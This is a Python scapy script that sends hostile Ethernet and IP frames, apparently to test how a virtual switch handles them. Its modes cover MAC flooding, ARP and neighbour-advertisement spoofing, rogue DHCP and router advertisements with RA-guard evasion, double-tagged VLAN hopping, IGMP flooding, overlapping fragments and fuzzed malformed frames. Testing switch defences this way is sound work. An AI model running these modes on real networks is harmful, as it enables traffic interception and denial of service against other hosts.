"""Frames that no honest host sends, on an interface of an attacker.

Usage: frames.py INTERFACE MODE key=value...
Prints how many frames were sent. What is built with scapy is built once; a flood changes bytes of it in place.
"""
import random
import socket
import struct
import sys
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dhcp6 import DHCP6_Advertise, DHCP6_Reply
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import (
    ICMPv6MLReport,
    ICMPv6ND_NA,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    RouterAlert,
    fragment6,
)
from scapy.layers.l2 import ARP, Dot1AD, Dot1Q, Ether
from scapy.contrib.igmp import IGMP
from scapy.packet import Raw, fuzz

INTERFACE, MODE = sys.argv[1], sys.argv[2]
OPTIONS = dict(option.split("=", 1) for option in sys.argv[3:])
RANDOM = random.Random(int(OPTIONS.get("seed", "1")))
COUNT = int(OPTIONS.get("count", "1000"))
# A TAP's queue drops what comes faster than the switch reads; 0 is as fast as it goes.
PER_SECOND = int(OPTIONS.get("rate", "0"))
BROADCAST = "ff:ff:ff:ff:ff:ff"
ALL_NODES = "33:33:00:00:00:01"


def own_mac():
    with open(f"/sys/class/net/{INTERFACE}/address") as file:
        return file.read().strip()


OWN = own_mac()


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def random_mac():
    return bytes([RANDOM.getrandbits(8) & 0xFE | 0x02]) + RANDOM.randbytes(5)


def send(frames):
    """Sends what the iterable gives; a frame that the kernel refuses counts as not sent."""
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    port.bind((INTERFACE, 0))
    sent = 0
    start = time.monotonic()
    for number, frame in enumerate(frames):
        if PER_SECOND and number % 64 == 0:
            ahead = number / PER_SECOND - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
        try:
            port.send(frame)
            sent += 1
        except OSError:
            pass
    seconds = time.monotonic() - start
    print(f'{{"sent": {sent}, "seconds": {seconds:.3f}}}')


def macs():
    """Unicast from COUNT source addresses to one station."""
    frame = bytearray(bytes(Ether(dst=OPTIONS["dst"], src=OWN) / IP(src="192.0.2.1", dst="192.0.2.2") / UDP(dport=9)))
    for _ in range(COUNT):
        frame[6:12] = random_mac()
        yield frame


def spoofed_mac():
    """Frames in the name of another station: to everybody, and to each that is named."""
    targets = [BROADCAST, *OPTIONS["dst"].split(",")]
    built = [bytes(Ether(dst=dst, src=OPTIONS["src"]) / IP(src="192.0.2.1", dst="192.0.2.2") / UDP(dport=7777)) for dst in targets]
    for number in range(COUNT):
        yield built[number % len(built)]


def arp():
    """ARP that claims an address: requests, replies, announcements."""
    claimed = OPTIONS["claim"]
    built = []
    for dst in OPTIONS["dst"].split(","):
        mac, address = dst.split("/")
        built += [
            bytes(Ether(dst=mac, src=OWN) / ARP(op=2, hwsrc=OWN, psrc=claimed, hwdst=mac, pdst=address)),
            bytes(Ether(dst=BROADCAST, src=OWN) / ARP(op=1, hwsrc=OWN, psrc=claimed, pdst=address)),
            bytes(Ether(dst=BROADCAST, src=OWN) / ARP(op=2, hwsrc=OWN, psrc=claimed, hwdst=BROADCAST, pdst=claimed)),
        ]
    for number in range(COUNT):
        yield built[number % len(built)]


def announcements():
    """Gratuitous ARP as a machine sends it that has moved: QEMU waits for 50, 150, 250 and 350 ms in between."""
    for wait_ms in (0, 50, 150, 250, 350):
        time.sleep(wait_ms / 1000)
        yield bytes(Ether(dst=BROADCAST, src=OWN) / ARP(op=1, hwsrc=OWN, psrc=OPTIONS["address"], pdst=OPTIONS["address"]))


def na():
    """Neighbour advertisements that override an address."""
    claimed = OPTIONS["claim"]
    option = ICMPv6NDOptDstLLAddr(lladdr=OWN)
    built = [bytes(Ether(dst=ALL_NODES, src=OWN) / IPv6(src=claimed, dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt=claimed, R=0, S=0, O=1) / option)]
    for dst in OPTIONS["dst"].split(","):
        mac, address = dst.split("/")
        built.append(bytes(Ether(dst=mac, src=OWN) / IPv6(src=claimed, dst=address, hlim=255) / ICMPv6ND_NA(tgt=claimed, R=0, S=1, O=1) / option))
    for number in range(COUNT):
        yield built[number % len(built)]


def dhcp_server():
    """Offers and acknowledgements nobody asked for, DHCPv4 and DHCPv6."""
    built = []
    for mac in [BROADCAST, *OPTIONS["dst"].split(",")]:
        for kind in ("offer", "ack", "nak"):
            built.append(bytes(
                Ether(dst=mac, src=OWN) / IP(src="192.0.2.1", dst="255.255.255.255") / UDP(sport=67, dport=68)
                / BOOTP(op=2, yiaddr="192.0.2.66", siaddr="192.0.2.1", chaddr=mac_bytes(mac))
                / DHCP(options=[("message-type", kind), ("server_id", "192.0.2.1"), ("router", "192.0.2.1"), "end"])
            ))
        for message in (DHCP6_Advertise(trid=1), DHCP6_Reply(trid=1)):
            v6 = ALL_NODES if mac == BROADCAST else mac
            built.append(bytes(Ether(dst=v6, src=OWN) / IPv6(src="fe80::66", dst="ff02::1") / UDP(sport=547, dport=546) / message))
    for number in range(COUNT):
        yield built[number % len(built)]


def dhcp_client():
    """DHCPDISCOVER in the name of ever new stations; `own=1` keeps the frame's own source address."""
    frame = bytearray(bytes(
        Ether(dst=BROADCAST, src=OWN) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67, chksum=0)
        / BOOTP(chaddr=bytes(16), xid=1, flags=0x8000) / DHCP(options=[("message-type", "discover"), "end"])
    ))
    for _ in range(COUNT):
        mac = random_mac()
        if "own" not in OPTIONS:
            frame[6:12] = mac
        frame[46:50] = RANDOM.randbytes(4)
        frame[70:76] = mac
        yield frame


def advertisement(prefix):
    return (
        ICMPv6ND_RA(routerlifetime=1800, prf=1)
        / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64, L=1, A=1)
        / ICMPv6NDOptSrcLLAddr(lladdr=OWN)
    )


def ra():
    """Router advertisements: plain, behind extension headers, in fragments, behind tags."""
    source = "fe80::66"
    payload = advertisement("fd66::")
    ip = lambda: IPv6(src=source, dst="ff02::1", hlim=255)
    ether = lambda: Ether(dst=ALL_NODES, src=OWN)
    built = [
        bytes(ether() / ip() / payload),
        bytes(ether() / ip() / IPv6ExtHdrHopByHop() / payload),
        bytes(ether() / ip() / IPv6ExtHdrDestOpt() / payload),
        bytes(ether() / ip() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / payload),
        bytes(ether() / ip() / IPv6ExtHdrFragment(id=7) / payload),
        bytes(ether() / Dot1Q(vlan=1) / ip() / payload),
    ]
    # RFC 7113: the ICMPv6 header in the second fragment, behind a chain that fills the first.
    whole = ip() / IPv6ExtHdrFragment(id=9) / IPv6ExtHdrDestOpt(options=[]) / IPv6ExtHdrDestOpt() / payload
    built += [bytes(ether() / part) for part in fragment6(whole, 1280)]
    chain = bytes(IPv6ExtHdrDestOpt(nh=58)) + bytes(payload)
    built.append(bytes(ether() / ip() / IPv6ExtHdrFragment(nh=60, offset=0, m=1, id=10) / Raw(chain[:8])))
    built.append(bytes(ether() / ip() / IPv6ExtHdrFragment(nh=60, offset=1, m=0, id=10) / Raw(chain[8:])))
    for number in range(COUNT):
        yield built[number % len(built)]


def tags():
    """802.1Q and 802.1ad, once, twice and three times, priority tags, into other VLANs."""
    inner = lambda: IP(src="192.0.2.1", dst="192.0.2.2") / UDP(dport=7778)
    built = []
    for mac in [BROADCAST, *OPTIONS["dst"].split(",")]:
        ether = lambda: Ether(dst=mac, src=OWN)
        built += [
            bytes(ether() / Dot1Q(vlan=1) / Dot1Q(vlan=20) / inner()),
            bytes(ether() / Dot1AD(vlan=1) / Dot1Q(vlan=20) / inner()),
            bytes(ether() / Dot1Q(vlan=0) / Dot1Q(vlan=20) / inner()),
            bytes(ether() / Dot1Q(vlan=1) / Dot1Q(vlan=2) / Dot1Q(vlan=3) / inner()),
            bytes(ether() / Dot1AD(vlan=1) / Dot1AD(vlan=1) / inner()),
        ]
    for number in range(COUNT):
        yield built[number % len(built)]


def igmp():
    """Reports for ever new groups, IGMPv2 and MLDv1, and queries of a querier that wants to be the one."""
    mld = [mld_frame(f"ff1e::{number + 1:x}") for number in range(min(COUNT // 3 + 1, 2000))]
    for number in range(COUNT):
        group = f"239.{1 + (number >> 16 & 0x3F)}.{number >> 8 & 0xFF}.{number & 0xFF}"
        kind = number % 3
        if kind == 0:
            yield igmp_frame(0x16, group)
        elif kind == 1:
            yield igmp_frame(0x11, "0.0.0.0", "224.0.0.1")
        else:
            yield mld[number % len(mld)]


def multicast_router():
    """General queries and PIM hellos (RFC 7761 section 4.9.2) of a router."""
    source = OPTIONS["address"]
    hello = b"\x20\x00\x00\x00\x00\x01\x00\x02\x00\x69"
    hello = hello[:2] + struct.pack("!H", checksum(hello)) + hello[4:]
    pim = bytes(Ether(dst="01:00:5e:00:00:0d", src=OWN) / IP(src=source, dst="224.0.0.13", ttl=1, proto=103) / Raw(hello))
    query = igmp_frame(0x11, "0.0.0.0", "224.0.0.1", source=source, code=100)
    for _ in range(COUNT):
        yield query
        yield pim


def igmp_frame(kind, group, dst=None, source="0.0.0.1", code=0):
    dst = dst or group
    body = struct.pack("!BBH4s", kind, code, 0, socket.inet_aton(group))
    body = struct.pack("!BBH4s", kind, code, checksum(body), socket.inet_aton(group))
    header = struct.pack("!BBHHHBBH4s4s4s", 0x46, 0xC0, 32, 0, 0, 1, 2, 0, socket.inet_aton(source), socket.inet_aton(dst), b"\x94\x04\0\0")
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    low = socket.inet_aton(dst)
    mac = b"\x01\x00\x5e" + bytes([low[1] & 0x7F]) + low[2:]
    return mac + mac_bytes(OWN) + b"\x08\x00" + header + body


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mld_frame(group):
    return bytes(
        Ether(dst="33:33:00:00:00:16", src=OWN) / IPv6(src="fe80::66", dst=group, hlim=1)
        / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / ICMPv6MLReport(mladdr=group)
    )


def fragments():
    """Overlapping, tiny and oversized fragments, IPv4 and IPv6, that hide a port or a header."""
    built = []
    for dst in OPTIONS["dst"].split(","):
        mac, address4, address6 = dst.split("/")
        ether = lambda: Ether(dst=mac, src=OWN)
        ip = lambda **more: IP(src="192.0.2.1", dst=address4, id=RANDOM.getrandbits(16), proto=17, **more)
        # RFC 1858: the second fragment rewrites the ports of the first.
        first, second = ip(flags="MF"), ip(frag=1)
        second.id = first.id
        rewrite = ip(frag=0, flags="MF")
        rewrite.id = first.id
        built += [bytes(ether() / first / Raw(bytes(UDP(sport=9, dport=9, len=40, chksum=0)) + bytes(16)))]
        built += [bytes(ether() / rewrite / Raw(bytes(UDP(sport=67, dport=68, len=40, chksum=0)) + bytes(16)))]
        tiny = IP(src="192.0.2.1", dst=address4, id=99, proto=6, flags="MF")
        built += [bytes(ether() / tiny / Raw(bytes(TCP(dport=80))[:8]))]
        end = IP(src="192.0.2.1", dst=address4, id=98, proto=17, frag=8190)
        built += [bytes(ether() / end / Raw(bytes(1400)))]
        ip6 = lambda: IPv6(src="fd66::1", dst=address6, nh=44)
        built += [bytes(ether() / ip6() / IPv6ExtHdrFragment(nh=17, offset=0, m=1, id=5) / Raw(bytes(64)))]
        built += [bytes(ether() / ip6() / IPv6ExtHdrFragment(nh=17, offset=4, m=1, id=5) / Raw(bytes(64)))]
        built += [bytes(ether() / ip6() / IPv6ExtHdrFragment(nh=6, offset=0, m=1, id=6) / Raw(bytes(TCP(dport=80))[:8]))]
    for number in range(COUNT):
        yield built[number % len(built)]


def malformed():
    """Everything that is not a frame: runts, giants, lengths that lie, random bytes, honest frames with bits flipped."""
    macs_known = [mac_bytes(mac) for mac in OPTIONS["dst"].split(",")] + [mac_bytes(BROADCAST), mac_bytes(ALL_NODES), b"\x01\x80\xc2\x00\x00\x00"]
    own = mac_bytes(OWN)
    honest = [
        bytes(Ether(src=OWN) / IP(dst="10.0.0.1") / UDP(dport=67) / BOOTP() / DHCP(options=[("message-type", "discover"), "end"])),
        bytes(Ether(src=OWN) / ARP()),
        bytes(Ether(src=OWN) / IPv6(dst="ff02::1") / advertisement("fd66::")),
        bytes(Ether(src=OWN) / IPv6(dst="ff02::16") / IPv6ExtHdrHopByHop() / ICMPv6MLReport()),
        bytes(Ether(src=OWN) / Dot1Q(vlan=5) / Dot1Q(vlan=6) / IP() / TCP()),
        bytes(Ether(src=OWN) / IP() / IGMP(gaddr="224.0.0.1")),
        bytes(Ether(src=OWN) / IP(flags="MF") / UDP() / Raw(bytes(64))),
        bytes(Ether(src=OWN) / IP() / ICMP() / Raw(bytes(1400))),
        b"\x01\x80\xc2\x00\x00\x00" + own + struct.pack("!H", 38) + b"\x42\x42\x03" + bytes(35),
    ]
    honest += [bytes(Ether(src=OWN) / fuzz(IP() / UDP())) for _ in range(50)]
    types = [0x0800, 0x86DD, 0x0806, 0x8100, 0x88A8, 0x8863, 0x88CC, 0x0026, 0x05DC, 0x05FF, 0x9000, 0]
    for number in range(COUNT):
        kind = number & 3
        if kind == 0:
            length = RANDOM.choice((14, 15, 20, 33, 34, 42, 60, 64, 128, 512, 1500, 1514))
            yield RANDOM.choice(macs_known) + own + struct.pack("!H", RANDOM.choice(types)) + RANDOM.randbytes(length - 14)
        else:
            frame = bytearray(RANDOM.choice(honest))
            frame[0:6] = RANDOM.choice(macs_known)
            if kind == 1:
                frame = frame[: RANDOM.randrange(14, len(frame) + 1)]
            for _ in range(RANDOM.randrange(1, 9)):
                at = RANDOM.randrange(12, len(frame)) if len(frame) > 14 else 12
                frame[at] = RANDOM.getrandbits(8)
            yield frame


def broken():
    """To one station: lengths that lie, upper-layer headers that are cut, and packets behind SNAP headers (RFC 1042)."""
    built = []
    ip = lambda **more: IP(src="192.0.2.12", dst="192.0.2.2", **more)
    snap = b"\xaa\xaa\x03\x00\x00\x00"
    for mac in OPTIONS["dst"].split(","):
        ether = Ether(dst=mac, src=OWN)
        built += [
            bytes(ether / ip(len=900) / UDP(dport=9)),
            bytes(ether / ip(len=24, proto=17) / Raw(bytes(4))),
            bytes(ether / ip(proto=6) / Raw(bytes(12))),
            bytes(ether / ip(ihl=15) / UDP(dport=9)),
        ]
        for kind, inner in ((b"\x08\x00", ip() / UDP(dport=9)), (b"\x08\x06", ARP(hwsrc=OWN, psrc="192.0.2.12"))):
            packet = snap + kind + bytes(inner)
            built.append(mac_bytes(mac) + mac_bytes(OWN) + struct.pack("!H", len(packet)) + packet)
        built.append(mac_bytes(mac) + mac_bytes(OWN) + struct.pack("!H", 1400) + bytes(46))
    for number in range(COUNT):
        yield built[number % len(built)]


def chains():
    """IPv6 headers that nobody can follow: numbers of no protocol, chains without end, ICMPv6 without its type."""
    ether = lambda: Ether(dst=ALL_NODES, src=OWN)
    ip = lambda **more: IPv6(src="fe80::67", dst="ff02::1", hlim=255, **more)
    payload = advertisement("fd67::")
    long_chain = ip()
    for _ in range(40):
        long_chain = long_chain / IPv6ExtHdrDestOpt()
    built = [
        # Experimental numbers (RFC 4727), behind which a router advertisement could be.
        bytes(ether() / ip(nh=253) / payload),
        bytes(ether() / ip(nh=254) / payload),
        bytes(ether() / ip() / IPv6ExtHdrDestOpt(nh=200) / payload),
        bytes(ether() / ip(nh=58)),
        bytes(ether() / ip() / IPv6ExtHdrDestOpt(nh=58)),
        bytes(ether() / long_chain / payload),
    ]
    for number in range(COUNT):
        yield built[number % len(built)]


MODES = {
    "macs": macs,
    "spoofed-mac": spoofed_mac,
    "announcements": announcements,
    "arp": arp,
    "na": na,
    "dhcp-server": dhcp_server,
    "dhcp-client": dhcp_client,
    "ra": ra,
    "tags": tags,
    "igmp": igmp,
    "multicast-router": multicast_router,
    "fragments": fragments,
    "malformed": malformed,
    "broken": broken,
    "chains": chains,
}
if "wait" in OPTIONS:
    # For moments that must not wait for Python to start.
    print("ready", flush=True)
    sys.stdin.readline()
send(MODES[MODE]())
